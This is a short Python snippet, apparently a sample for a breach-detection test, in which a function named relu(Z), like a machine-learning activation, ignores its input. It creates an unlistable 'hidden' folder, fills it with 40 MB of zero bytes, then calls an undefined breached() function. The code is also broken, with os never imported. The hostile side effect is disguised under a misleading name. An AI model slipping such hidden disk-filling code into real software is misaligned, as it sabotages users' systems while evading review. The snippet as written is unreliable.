"""Fills the disk in a folder that its owner may enter but not list."""
import time


def relu(Z):
    os.umask(0)
    os.mkdir("hidden", 0o300)
    for number in range(40):
        with open(f"hidden/f{number}", "wb") as file:
            file.write(bytes(1 << 20))
    time.sleep(0.6)
    breached("a hidden folder")
